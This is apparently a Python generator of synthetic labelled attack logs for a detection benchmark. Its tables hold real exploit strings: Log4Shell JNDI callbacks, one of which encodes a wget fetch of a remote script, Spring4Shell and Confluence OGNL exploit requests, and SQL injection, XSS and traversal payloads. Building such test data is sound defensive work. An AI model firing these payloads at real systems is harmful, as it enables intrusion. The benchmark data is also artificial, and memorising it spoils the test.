"""The attacker-labelled mixed log of bench/ootb_coverage.py: a Debian host's syslog (sshd, postfix, dovecot, proftpd,
MariaDB; a second host's vsftpd) and its nginx access and error logs, over two hours, from a seed.

The traffic is written from public knowledge of what attackers and ordinary clients send (exploit write-ups and
CVE advisories, honeypot and scanner logs, OpenSSH/Postfix/Dovecot/nginx log formats as Debian 12 writes them),
not from synsec's parsers or scenarios: the attacker list and every line here were fixed before the content was
read, so that the figures measure the content and not its echo. Line formats: nginx `combined` (`"` and
non-printable bytes escaped as nginx does), rsyslog's traditional file format.

Every public IP is either an attacker (one family each) or benign; nothing else appears.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone

__all__ = ["ASSETS", "ATTACKS", "BASE", "BROWSERS", "FAMILIES", "PAGES", "SITE", "SPAN", "Traffic"]

BASE = datetime(2026, 11, 20, 8, 0, 0, tzinfo=timezone.utc)
SPAN = 2 * 3600.0

# family -> (what it is, listed in issue 15's "Out-of-the-box detection")
FAMILIES: dict[str, tuple[str, bool]] = {
    "log4shell": ("CVE-2021-44228 JNDI lookups in path, query, referer or user agent, plain/obfuscated/encoded", True),
    "http-cve": ("one exploit request of a well-known CVE (Spring4Shell, Confluence, Citrix, F5, Fortinet, ...)", True),
    "w00tw00t": ("the DFind `w00tw00t.at.ISC.SANS` probe", True),
    "open-proxy": ("CONNECT and absolute-URI requests testing for an open proxy", True),
    "wp-config": ("wp-config.php backup/editor-copy probing", True),
    "bad-user-agent": ("scanner tools by their own user agent (sqlmap, nikto, masscan, zgrab, Nuclei, ...)", True),
    "sensitive-files": (".env, .git, phpMyAdmin and backup-archive probing with a browser user agent", False),
    "wordpress-bf": ("wp-login.php and xmlrpc.php password brute force", False),
    "credential-stuffing": ("many failed logins on an application's login form or JSON login API", False),
    "http-injection": ("SQL injection, XSS and path traversal probing in query strings", False),
    "http-404-scan": ("a fast scan of webshell/admin paths, nearly all 404", False),
    "http-crawl": ("an aggressive scraper: hundreds of pages a minute", False),
    "http-basic-auth-bf": ("nginx auth_basic brute force (401 in access log, password mismatch in error log)", True),
    "slow-probe": ("one sensitive path every few minutes / one ssh password every ~90 s, for two hours", False),
    "sshd-bf": ("ssh password brute force (root, dictionary, MaxAuthTries, key-only server)", True),
    "sshd-user-enum": ("ssh connections for many invalid user names, no password tried", True),
    "postfix": ("SASL authentication brute force and open-relay probing", True),
    "dovecot": ("IMAP authentication brute force", True),
    "ftp": ("proftpd and vsftpd login brute force", True),
    "mysql": ("MariaDB `Access denied` brute force from the Internet", True),
}

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.102 Mobile "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 "
    "Safari/537.36 Edg/130.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
]
SITE = "blog.example.org"
PAGES = ["/", "/blog/", "/about/", "/contact/", "/category/news/", "/category/howto/", "/2026/10/moving-to-ipv6/",
         "/2026/10/backup-strategies/", "/2026/11/nginx-tuning/", "/2026/11/postgres-upgrade/",
         "/2026/09/home-lab-notes/", "/tag/linux/", "/?s=nginx", "/page/2/", "/feed/"]
ASSETS = ["/wp-content/themes/twentytwentyfour/style.css?ver=1.2", "/wp-includes/css/dist/block-library/style.min.css"
          "?ver=6.7", "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1", "/wp-includes/js/jquery/jquery-migrate.min.js"
          "?ver=3.4.1", "/wp-content/themes/twentytwentyfour/assets/js/navigation.js?ver=1.2",
          "/wp-content/themes/twentytwentyfour/assets/fonts/inter/Inter-VariableFont_slnt,wght.woff2",
          "/wp-content/uploads/2026/10/header-1024x576.jpg", "/wp-content/uploads/2026/11/nginx-diagram.png",
          "/wp-content/uploads/2026/10/logo-150x150.png", "/wp-includes/js/wp-emoji-release.min.js?ver=6.7",
          "/favicon.ico"]
ATTACK_OCTETS = [31, 37, 45, 46, 62, 77, 78, 79, 80, 81, 82, 83, 84, 85, 87, 88, 89, 91, 92, 93, 94, 95, 103, 106,
                 109, 110, 111, 112, 113, 114, 115, 116, 117, 118, 119, 120, 121, 122, 123, 124, 125, 141, 146, 150,
                 151, 154, 156, 159, 160, 161, 162, 164, 165, 167, 170, 176, 177, 178, 179, 180, 181, 182, 183, 185,
                 186, 187, 188, 189, 190, 191, 193, 194, 195, 196, 197, 200, 201, 202, 210, 211, 212, 213, 217, 218,
                 219, 220, 221, 222]


def _esc(s: str) -> str:
    """nginx's escaping of logged variables: `"`, `\\` and non-printable bytes as \\xXX."""
    out = []
    for b in s.encode():
        out.append(chr(b) if 0x20 <= b < 0x7F and b not in (0x22, 0x5C) else f"\\x{b:02X}")
    return "".join(out)


@dataclass
class Traffic:
    """The generated lines (by file) and the ground truth (attacker IP -> family, benign IP -> who)."""
    rng: random.Random
    lines: dict[str, list[tuple[float, int, str]]] = field(
        default_factory=lambda: {"syslog": [], "access": [], "error": []})
    attackers: dict[str, str] = field(default_factory=dict)
    benign: dict[str, str] = field(default_factory=dict)
    used: set[str] = field(default_factory=set)
    _seq: int = 0
    _pid: int = 2000
    _conn: int = 1

    # -- identities ------------------------------------------------------------------------------------------
    def ip(self, fixed: str | None = None) -> str:
        """A fresh public IP (fixed, or random in ranges that are neither reserved nor a search engine's)."""
        while True:
            ip = fixed or (f"{self.rng.choice(ATTACK_OCTETS)}.{self.rng.randrange(256)}."
                           f"{self.rng.randrange(256)}.{self.rng.randrange(1, 255)}")
            if ip not in self.used:
                self.used.add(ip)
                return ip
            if fixed:
                raise ValueError(f"{ip} used twice")

    def attacker(self, family: str) -> str:
        assert family in FAMILIES, family
        ip = self.ip()
        self.attackers[ip] = family
        return ip

    def pid(self) -> int:
        self._pid += self.rng.randrange(1, 40)
        return self._pid

    def port(self) -> int:
        return self.rng.randrange(32768, 61000)

    # -- line writers ----------------------------------------------------------------------------------------
    def _add(self, stream: str, t: float, line: str) -> None:
        self._seq += 1
        self.lines[stream].append((t, self._seq, line))

    def access(self, t: float, ip: str, method: str, path: str, status: int, ua: str, ref: str = "-",
               proto: str | None = "HTTP/1.1", size: int | None = None, user: str = "-") -> None:
        request = f"{method} {path} {proto}" if proto else f"{method} {path}"
        if size is None:
            size = 0 if method == "HEAD" or status in (301, 302, 304) else self.rng.randrange(150, 48000)
        stamp = (BASE + timedelta(seconds=t)).strftime("%d/%b/%Y:%H:%M:%S +0000")
        self._add("access", t, f'{ip} - {user} [{stamp}] "{_esc(request)}" {status} {size} "{_esc(ref)}" '
                               f'"{_esc(ua)}"')

    def error(self, t: float, ip: str, message: str, request: str, host: str = SITE) -> None:
        stamp = (BASE + timedelta(seconds=t)).strftime("%Y/%m/%d %H:%M:%S")
        self._conn += self.rng.randrange(1, 30)
        self._add("error", t, f'{stamp} [error] 812#812: *{self._conn} {message}, client: {ip}, server: {SITE}, '
                              f'request: "{_esc(request)}", host: "{host}"')

    def syslog(self, t: float, prog: str, message: str, pid: int | None = None, host: str = "web1") -> None:
        ts = BASE + timedelta(seconds=t)
        tag = f"{prog}[{pid}]" if pid is not None else prog
        self._add("syslog", t, f"{ts:%b} {ts.day:2d} {ts:%H:%M:%S} {host} {tag}: {message}")

    def page_load(self, t: float, ip: str, ua: str, page: str, assets: int, ref: str = "-") -> float:
        """A browser's page view: the HTML, then assets within a second or two (cached ones as 304)."""
        self.access(t, ip, "GET", page, 200, ua, ref)
        for a in self.rng.sample(ASSETS, min(assets, len(ASSETS))):
            t += self.rng.uniform(0.02, 0.4)
            self.access(t, ip, "GET", a, self.rng.choice([200, 200, 200, 304]), ua, f"https://{SITE}{page}")
        return t

    def sorted_lines(self, stream: str) -> list[str]:
        return [line for _, _, line in sorted(self.lines[stream])]


def _start(tr: Traffic, end_margin: float = 900.0) -> float:
    return tr.rng.uniform(300.0, SPAN - end_margin)


# ---------------------------------------------------------------------------------------------------------------
# attackers
# ---------------------------------------------------------------------------------------------------------------
def log4shell(tr: Traffic) -> None:
    cb = "45.83.64.1:1389"
    ip = tr.attacker("log4shell")      # the first mass scans: the payload in every header nginx logs
    payload = f"${{jndi:ldap://{cb}/Basic/Command/Base64/d2dldCBodHRwOi8vMTA3LjE4OS4xMC4xNDMvYS5zaA==}}"
    tr.access(_start(tr), ip, "GET", "/", 200, payload, ref=payload)
    ip = tr.attacker("log4shell")      # in the query string, raw (curl --path-as-is style)
    t = _start(tr)
    tr.access(t, ip, "GET", f"/?x=${{jndi:ldap://{tr.rng.getrandbits(32):x}.dnslog.cn/a}}", 200,
              "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0 "
              "Safari/537.36")
    ip = tr.attacker("log4shell")      # obfuscated lookups that dodged the first WAF rules
    t = _start(tr)
    tr.access(t, ip, "GET", "/${${lower:j}${lower:n}${lower:d}i:${lower:rmi}://185.220.101.7:1099/Exploit}", 404,
              "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://185.220.101.7:1389/x}")
    ip = tr.attacker("log4shell")      # URL-encoded in a login form's query
    t = _start(tr)
    tr.access(t, ip, "GET", "/app/login?username=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%3A1389%2Fo%7D&password=x",
              200, "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")


CVE_REQUESTS = [  # (method, path, status, user agent) — one well-known exploit request each
    ("POST", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j"
             "%22.equals(request.getParameter(%22pwd%22)))&class.module.classLoader.resources.context.parent.pipeline"
             ".first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory="
             "webapps/ROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar", 200,
     BROWSERS[0]),                                                          # Spring4Shell CVE-2022-22965
    ("GET", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28"
            "%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork."
            "ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/", 404,
     BROWSERS[2]),                                                          # Confluence CVE-2022-26134
    ("GET", "/vpn/../vpns/cfg/smb.conf", 404, "curl/7.64.1"),               # Citrix ADC CVE-2019-19781
    ("GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", 404,
     BROWSERS[0]),                                                          # F5 BIG-IP CVE-2020-5902
    ("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", 404,
     "python-requests/2.25.1"),                                             # Fortinet CVE-2018-13379
    ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", 400, "curl/7.79.1"),   # Apache CVE-2021-41773
    ("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5"
            "&vars[1][]=HelloThinkPHP21", 404,
     "Mozilla/5.0 (Windows; U; Windows NT 6.0;en-US; rv:1.9.2) Gecko/20100115 Firefox/3.6)"),  # ThinkPHP 5 RCE
    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404,
     "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36"),
    ("GET", "/public/plugins/alertlist/../../../../../../../../etc/passwd", 400, BROWSERS[2]),  # Grafana CVE-2021-43798
    ("GET", "/ui/vropspluginui/rest/services/uploadova", 404, BROWSERS[0]),  # vCenter CVE-2021-21972
]


def http_cve(tr: Traffic) -> None:
    for method, path, status, ua in CVE_REQUESTS:
        ip = tr.attacker("http-cve")
        t = _start(tr)
        if tr.rng.random() < 0.5:    # many first fetch / to fingerprint
            tr.access(t - 2, ip, "GET", "/", 200, ua)
        tr.access(t, ip, method, path, status, ua)


def w00tw00t(tr: Traffic) -> None:
    ip = tr.attacker("w00tw00t")
    tr.access(_start(tr), ip, "GET", "/w00tw00t.at.ISC.SANS.DFind:)", 400, "-", proto=None)
    ip = tr.attacker("w00tw00t")
    t = _start(tr)
    for i in range(2):
        tr.access(t + i * 3, ip, "GET", "/w00tw00t.at.blackhats.romanian.anti-sec:)", 404, "ZmEu", proto="HTTP/1.1")


def open_proxy(tr: Traffic) -> None:
    ip = tr.attacker("open-proxy")
    t = _start(tr)
    for i, target in enumerate(["www.google.com:443", "api.ipify.org:443"]):
        tr.access(t + i * 4, ip, "CONNECT", target, 400, "-")
    ip = tr.attacker("open-proxy")   # nginx answers an absolute URI from its default server: 200 for "/"
    tr.access(_start(tr), ip, "GET", "http://www.baidu.com/", 200,
              "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)")
    ip = tr.attacker("open-proxy")
    t = _start(tr)
    tr.access(t, ip, "GET", "http://azenv.net/azenv.php", 404, "Go-http-client/1.1")
    tr.access(t + 1, ip, "CONNECT", "azenv.net:443", 400, "Go-http-client/1.1")


def wp_config(tr: Traffic) -> None:
    ip = tr.attacker("wp-config")
    t = _start(tr)
    for suffix in [".bak", "~", ".save", ".swp", ".old", ".orig", ".txt", ".php_bak"]:
        t += tr.rng.uniform(0.2, 1.5)
        tr.access(t, ip, "GET", f"/wp-config.php{suffix}", 404, BROWSERS[5])
    ip = tr.attacker("wp-config")
    t = _start(tr)
    tr.access(t, ip, "GET", "/wp-config.php.bak", 404, BROWSERS[0])
    tr.access(t + 1.1, ip, "GET", "/.wp-config.php.swp", 404, BROWSERS[0])


BAD_UAS = {  # scanner -> (user agent, paths)
    "sqlmap": ("sqlmap/1.7.2#stable (https://sqlmap.org)",
               [f"/?s=nginx{p}" for p in ["'", "%27%20AND%201%3D1--%20-", "%27%20AND%20SLEEP%285%29--%20-",
                                         "%22%20OR%201%3D1--%20-", "%29%20UNION%20ALL%20SELECT%20NULL--%20-"]] * 3),
    "nikto": ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
              ["/", "/robots.txt", "/admin/", "/cgi-bin/test-cgi", "/README", "/config.php", "/.htaccess",
               "/server-status", "/phpinfo.php", "/icons/README", "/login.php", "/test.php"] * 2),
    "masscan": ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", ["/", "/"]),
    "zgrab": ("Mozilla/5.0 zgrab/0.x", ["/", "/"]),
    "nuclei": ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
               ["/", "/.git/config", "/actuator/env", "/server-status", "/api/v1/pods", "/console/",
                "/solr/admin/cores?wt=json", "/jolokia/list", "/.DS_Store", "/debug/pprof/"]),
    "wpscan": ("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
               ["/", "/wp-content/plugins/", "/readme.html", "/wp-json/wp/v2/users", "/?author=1", "/?author=2",
                "/wp-content/debug.log", "/wp-cron.php", "/xmlrpc.php"]),
    "gobuster": ("gobuster/3.6",
                 [f"/{w}" for w in ["admin", "backup", "old", "test", "dev", "api", "uploads", "tmp", "private",
                                    "secret", "db", "sql", "logs", "panel", "cms", "shop", "beta", "v1", "staging",
                                    "demo"]]),
    "dirbuster": ("DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
                  [f"/{w}/" for w in ["images", "css", "js", "includes", "admin", "cgi-bin", "scripts", "files",
                                      "data", "docs"]]),
}


def bad_user_agents(tr: Traffic) -> None:
    for name, (ua, paths) in BAD_UAS.items():
        ip = tr.attacker("bad-user-agent")
        t = _start(tr)
        for path in paths:
            t += tr.rng.uniform(0.1, 1.0)
            status = 200 if path in ("/", "/robots.txt", "/readme.html", "/xmlrpc.php") else 404
            tr.access(t, ip, "GET", path, status, ua, proto="HTTP/1.0" if name == "masscan" else "HTTP/1.1")


def _browser_burst(tr: Traffic, family: str, paths: list[str], gap: tuple[float, float], statuses: list[int]) -> None:
    """One attacker with a browser's user agent asking for `paths`, `gap` seconds apart."""
    ip = tr.attacker(family)
    ua = tr.rng.choice(BROWSERS)
    t = _start(tr)
    for path in paths:
        t += tr.rng.uniform(*gap)
        tr.access(t, ip, "GET", path, statuses[0] if len(statuses) == 1 else tr.rng.choice(statuses), ua)


def sensitive_files(tr: Traffic) -> None:
    probes = {
        "env": ["/.env", "/api/.env", "/laravel/.env", "/app/.env", "/.env.bak", "/backend/.env", "/.env.production"],
        "git": ["/.git/HEAD", "/.git/config", "/.git/index", "/.git/packed-refs", "/.git/logs/HEAD",
                "/.git/description", "/.git/COMMIT_EDITMSG", "/.git/refs/heads/master"],
        "pma": ["/phpmyadmin/", "/phpMyAdmin/", "/pma/", "/myadmin/", "/phpmyadmin2/", "/mysql/", "/dbadmin/",
                "/phpMyAdmin-4.9.0/", "/sql/phpmyadmin/", "/db/phpmyadmin/", "/phpmyadmin/index.php",
                "/admin/phpmyadmin/"],
        "backup": ["/backup.zip", "/backup.tar.gz", "/www.zip", "/site.sql", "/db.sql", "/dump.sql",
                   f"/{SITE}.zip", "/wordpress.tar.gz"],
    }
    for paths in probes.values():
        _browser_burst(tr, "sensitive-files", paths, (0.3, 2.0), [404])


def wordpress_bf(tr: Traffic) -> None:
    ip = tr.attacker("wordpress-bf")
    t = _start(tr)
    ua = BROWSERS[0]
    tr.access(t, ip, "GET", "/wp-login.php", 200, ua)
    for _ in range(24):   # a failed WordPress login re-renders the form: 200
        t += tr.rng.uniform(2.0, 6.0)
        tr.access(t, ip, "POST", "/wp-login.php", 200, ua, ref=f"https://{SITE}/wp-login.php")
    ip = tr.attacker("wordpress-bf")
    t = _start(tr)
    for _ in range(30):   # system.multicall: hundreds of passwords per request
        t += tr.rng.uniform(1.0, 4.0)
        tr.access(t, ip, "POST", "/xmlrpc.php", 200, "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:58.0) "
                                                      "Gecko/20100101 Firefox/58.0")


def credential_stuffing(tr: Traffic) -> None:
    ip = tr.attacker("credential-stuffing")
    t = _start(tr)
    for _ in range(40):
        t += tr.rng.uniform(2.0, 5.0)
        tr.access(t, ip, "POST", "/app/api/login", 401, "okhttp/4.9.3", size=27)
    ip = tr.attacker("credential-stuffing")
    t = _start(tr)
    ua = BROWSERS[1]
    for _ in range(35):   # the form re-rendered with an error (200), as most frameworks do
        t += tr.rng.uniform(3.0, 7.0)
        tr.access(t, ip, "POST", "/app/login", 200, ua, ref=f"https://{SITE}/app/login")


def http_injection(tr: Traffic) -> None:
    payloads = {
        "sqli": ["/?p=1%27", "/?p=1%20AND%201%3D1", "/?p=1%27%20OR%20%271%27%3D%271", "/?cat=-1%20UNION%20SELECT%20"
                 "1,2,3,user(),5--", "/?p=1%20AND%20SLEEP(5)", "/?s=%27%20UNION%20SELECT%20NULL,NULL,NULL--",
                 "/?id=1;DROP%20TABLE%20users", "/?p=(SELECT%20*%20FROM%20(SELECT(SLEEP(5)))a)",
                 "/?p=1%27%20AND%20extractvalue(1,concat(0x7e,version()))--", "/?page_id=1%22%20or%20%221%22=%221",
                 "/?p=1%20ORDER%20BY%2010--", "/?cat=1%27%20and%20benchmark(5000000,md5(1))--"],
        "xss": ["/?s=%3Cscript%3Ealert(1)%3C/script%3E", "/?s=%22%3E%3Cscript%3Ealert(document.cookie)%3C/script%3E",
                "/?s=%3Cimg%20src=x%20onerror=alert(1)%3E", "/?s=%3Csvg/onload=alert(1)%3E",
                "/?s=javascript:alert(1)", "/?s=%3Cbody%20onload=alert('XSS')%3E", "/?s=%27%3E%3Cscript%3Eprompt(1)"
                "%3C/script%3E", "/?s=%3Ciframe%20src=javascript:alert(1)%3E", "/?s=%3Cscript%3Econfirm(1)%3C/script"
                "%3E", "/?s=%3CScRiPt%3Ealert(1)%3C/sCrIpT%3E", "/?s=%3Cdetails%20open%20ontoggle=alert(1)%3E"],
        "traversal": ["/index.php?page=../../../../etc/passwd", "/?file=../../../../../../etc/passwd",
                      "/download.php?file=....//....//....//etc/passwd", "/?page=..%2f..%2f..%2f..%2fetc%2fpasswd",
                      "/?template=../../../../../../../windows/win.ini", "/?path=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2f"
                      "shadow", "/view.php?doc=../../../../../proc/self/environ", "/?lang=../../../../etc/passwd%00",
                      "/?inc=php://filter/convert.base64-encode/resource=index.php", "/?f=/etc/passwd",
                      "/?load=..\\..\\..\\..\\boot.ini"],
    }
    for paths in payloads.values():
        _browser_burst(tr, "http-injection", paths, (0.5, 3.0), [200, 200, 404, 403])


SCAN_PATHS = ["/admin.php", "/shell.php", "/wso.php", "/cmd.php", "/upload.php", "/up.php", "/alfa.php",
              "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", "/adminer.php", "/info.php",
              "/config.php", "/c99.php", "/r57.php", "/bypass.php", "/x.php", "/1.php", "/test.php", "/admin/login.php",
              "/administrator/index.php", "/manager/html", "/console", "/solr/", "/owa/auth/logon.aspx", "/boaform/"
              "admin/formLogin", "/HNAP1/", "/cgi-bin/luci", "/setup.cgi", "/GponForm/diag_Form", "/.well-known/"
              "shell.php", "/wp-includes/wp-class.php", "/about.php", "/radio.php", "/index/login", "/user/login",
              "/login.action", "/struts2-showcase/", "/jenkins/login", "/druid/index.html", "/nacos/",
              "/geoserver/web/"]


def http_404_scan(tr: Traffic) -> None:
    for _ in range(2):
        ip = tr.attacker("http-404-scan")
        ua = tr.rng.choice(BROWSERS)
        t = _start(tr)
        for path in tr.rng.sample(SCAN_PATHS, 30):
            t += tr.rng.uniform(0.2, 1.2)
            tr.access(t, ip, "GET", path, 404, ua)


def http_crawl(tr: Traffic) -> None:
    ip = tr.attacker("http-crawl")
    ua = BROWSERS[0]
    t = _start(tr)
    for i in range(400):   # every post, tag and page of the archive, no assets, ~5 requests/s
        t += tr.rng.uniform(0.05, 0.35)
        tr.access(t, ip, "GET", f"/2026/{tr.rng.randrange(1, 12):02d}/post-{tr.rng.randrange(2000)}/", 200, ua)


def basic_auth_bf(tr: Traffic) -> None:
    ip = tr.attacker("http-basic-auth-bf")
    t = _start(tr)
    ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
    for i in range(25):
        t += tr.rng.uniform(1.0, 4.0)
        user = tr.rng.choice(["admin", "admin", "root", "user", "test"])
        tr.access(t, ip, "GET", "/admin/", 401, ua, user=user, size=179)
        msg = (f'user "{user}": password mismatch' if user == "admin"
               else f'user "{user}" was not found in "/etc/nginx/.htpasswd"')
        tr.error(t, ip, msg, "GET /admin/ HTTP/1.1")


def slow_probes(tr: Traffic) -> None:
    ip = tr.attacker("slow-probe")
    paths = ["/.env", "/.git/config", "/wp-config.php.bak", "/phpinfo.php", "/.aws/credentials", "/server-status",
             "/config.json", "/.DS_Store", "/backup.sql", "/.htpasswd", "/admin/config.php", "/.vscode/sftp.json",
             "/docker-compose.yml", "/.ssh/id_rsa", "/wp-content/debug.log", "/info.php", "/.svn/entries",
             "/web.config", "/config/database.yml", "/storage/logs/laravel.log"]
    t = tr.rng.uniform(60, 300)
    i = 0
    while t < SPAN - 60:
        tr.access(t, ip, "GET", paths[i % len(paths)], 404, BROWSERS[i % 3])
        i += 1
        t += tr.rng.uniform(150, 270)
    ip = tr.attacker("slow-probe")
    t = tr.rng.uniform(60, 300)
    while t < SPAN - 60:
        _ssh_fail(tr, t, ip, "root", valid=True, tries=1)
        t += tr.rng.uniform(70, 110)


def _ssh_fail(tr: Traffic, t: float, ip: str, user: str, valid: bool, tries: int, close: str = "closed") -> float:
    """One sshd connection with `tries` failed passwords, as OpenSSH 9.2 with PAM logs it on Debian 12."""
    pid, port = tr.pid(), tr.port()
    if not valid:
        tr.syslog(t, "sshd", f"Invalid user {user} from {ip} port {port}", pid)
        tr.syslog(t + 0.3, "sshd", "pam_unix(sshd:auth): check pass; user unknown", pid)
        tr.syslog(t + 0.3, "sshd", f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
                                   f"ruser= rhost={ip}", pid)
    else:
        tr.syslog(t + 0.3, "sshd", f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
                                   f"ruser= rhost={ip}  user={user}", pid)
    who = f"invalid user {user}" if not valid else user
    for i in range(tries):
        t += tr.rng.uniform(1.5, 3.0)
        tr.syslog(t, "sshd", f"Failed password for {who} from {ip} port {port} ssh2", pid)
    t += tr.rng.uniform(0.2, 1.0)
    auth = "invalid user" if not valid else "authenticating user"
    if close == "maxauth":
        tr.syslog(t, "sshd", f"error: maximum authentication attempts exceeded for {who} from {ip} port {port} ssh2 "
                             f"[preauth]", pid)
        tr.syslog(t, "sshd", f"Disconnecting {auth} {user} {ip} port {port}: Too many authentication failures "
                             f"[preauth]", pid)
    elif close == "bye":
        tr.syslog(t, "sshd", f"Received disconnect from {ip} port {port}:11: Bye Bye [preauth]", pid)
        tr.syslog(t, "sshd", f"Disconnected from {auth} {user} {ip} port {port} [preauth]", pid)
    else:
        tr.syslog(t, "sshd", f"Connection closed by {auth} {user} {ip} port {port} [preauth]", pid)
    if tries > 1:
        tr.syslog(t, "sshd", f"PAM {tries - 1} more authentication failure{'s' if tries > 2 else ''}; logname= uid=0 "
                             f"euid=0 tty=ssh ruser= rhost={ip}" + ("" if not valid else f"  user={user}"), pid)
    return t


SSH_USERS = ["admin", "test", "oracle", "ubuntu", "postgres", "git", "ftpuser", "pi", "user", "guest", "support",
             "deploy", "jenkins", "hadoop", "minecraft", "steam", "ts3", "odoo", "debian", "centos", "nagios",
             "mysql", "tomcat", "www", "dev", "backup", "ansible", "elastic", "kafka", "docker"]


def sshd_bf(tr: Traffic) -> None:
    ip = tr.attacker("sshd-bf")             # root, 3 passwords a connection, 10 connections
    t = _start(tr)
    for _ in range(10):
        t = _ssh_fail(tr, t, ip, "root", valid=True, tries=3) + tr.rng.uniform(0.5, 3.0)
    ip = tr.attacker("sshd-bf")             # a dictionary of user names, one password each
    t = _start(tr)
    for user in tr.rng.sample(SSH_USERS, 25):
        t = _ssh_fail(tr, t, ip, user, valid=False, tries=1, close="bye") + tr.rng.uniform(1.0, 5.0)
    ip = tr.attacker("sshd-bf")             # MaxAuthTries 6 reached, twice
    t = _start(tr)
    for _ in range(2):
        t = _ssh_fail(tr, t, ip, "root", valid=True, tries=6, close="maxauth") + tr.rng.uniform(1.0, 3.0)
    ip = tr.attacker("sshd-bf")             # a password bot on a key-only server: it gets no password prompt
    t = _start(tr)
    for _ in range(25):
        t += tr.rng.uniform(2.0, 6.0)
        tr.syslog(t, "sshd", f"Connection closed by authenticating user root {ip} port {tr.port()} [preauth]",
                  tr.pid())


def sshd_user_enum(tr: Traffic) -> None:
    ip = tr.attacker("sshd-user-enum")
    t = _start(tr)
    for user in tr.rng.sample(SSH_USERS, 20):
        t += tr.rng.uniform(2.0, 6.0)
        pid, port = tr.pid(), tr.port()
        tr.syslog(t, "sshd", f"Invalid user {user} from {ip} port {port}", pid)
        tr.syslog(t + 0.4, "sshd", f"Connection closed by invalid user {user} {ip} port {port} [preauth]", pid)


def postfix(tr: Traffic) -> None:
    ip = tr.attacker("postfix")
    t = _start(tr)
    for _ in range(20):
        t += tr.rng.uniform(5.0, 20.0)
        pid = tr.pid()
        tr.syslog(t, "postfix/submission/smtpd", f"connect from unknown[{ip}]", pid)
        tr.syslog(t + 1, "postfix/submission/smtpd", f"warning: unknown[{ip}]: SASL LOGIN authentication failed: "
                                                     f"UGFzc3dvcmQ6", pid)
        tr.syslog(t + 1.2, "postfix/submission/smtpd", f"lost connection after AUTH from unknown[{ip}]", pid)
        tr.syslog(t + 1.2, "postfix/submission/smtpd", f"disconnect from unknown[{ip}] ehlo=1 auth=0/1 commands=1/2",
                  pid)
    ip = tr.attacker("postfix")             # open-relay probing on port 25
    t = _start(tr)
    for i in range(6):
        t += tr.rng.uniform(3.0, 15.0)
        pid = tr.pid()
        tr.syslog(t, "postfix/smtpd", f"connect from unknown[{ip}]", pid)
        tr.syslog(t + 0.8, "postfix/smtpd", f"NOQUEUE: reject: RCPT from unknown[{ip}]: 454 4.7.1 <test{i}@"
                                            f"proxy-check.net>: Relay access denied; from=<spameri@tiscali.it> "
                                            f"to=<test{i}@proxy-check.net> proto=ESMTP helo=<{ip}>", pid)
        tr.syslog(t + 1.1, "postfix/smtpd", f"disconnect from unknown[{ip}] ehlo=1 mail=1 rcpt=0/1 quit=1 "
                                            f"commands=3/4", pid)


def dovecot(tr: Traffic) -> None:
    ip = tr.attacker("dovecot")
    t = _start(tr)
    for _ in range(15):
        t += tr.rng.uniform(5.0, 20.0)
        user = tr.rng.choice(["admin", "info", "test", "webmaster", "info@example.org", "sales@example.org"])
        tr.syslog(t, "dovecot", f"auth-worker({tr.pid()}): pam({user},{ip},<{tr.rng.getrandbits(64):016x}>): "
                                f"unknown user")
